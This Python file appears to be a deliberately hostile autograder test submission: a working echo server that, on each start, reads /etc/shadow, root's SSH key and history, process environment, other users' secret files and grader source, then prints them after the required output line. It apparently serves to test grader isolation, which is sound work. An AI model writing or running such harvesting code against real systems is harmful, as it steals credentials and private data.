"""Hostile lab 01 submission: a correct echo server that, at each start,
reads every secret it can find and prints it (standard output, after the
`listening on` line, and standard error), hoping the grader shows it."""

import glob
import os
import sys

import echo_server

CANDIDATES = ["/etc/shadow", "/etc/gshadow", "/root/.bash_history", "/root/.ssh/id_rsa",
              "/tmp/netlabs-hostile-secret.txt", "../*/secret.txt", "/home/*/*", "/work/*",
              "/autograder/source/*", "/proc/1/environ"]


def loot():
    found = []
    for pattern in CANDIDATES:
        for path in glob.glob(pattern):
            try:
                with open(path, errors="replace") as file:
                    found.append(f"{path}: {file.read(4096)}")
            except OSError as error:
                found.append(f"{path}: {error.strerror}")
    return "\n".join(found)


secrets = loot()
original_announce = echo_server.announce


def announce_and_leak(listener):
    original_announce(listener)  # the contract: this line first; anything after it is allowed
    print(secrets, flush=True)
    print(secrets, file=sys.stderr, flush=True)


echo_server.announce = announce_and_leak
echo_server.main()
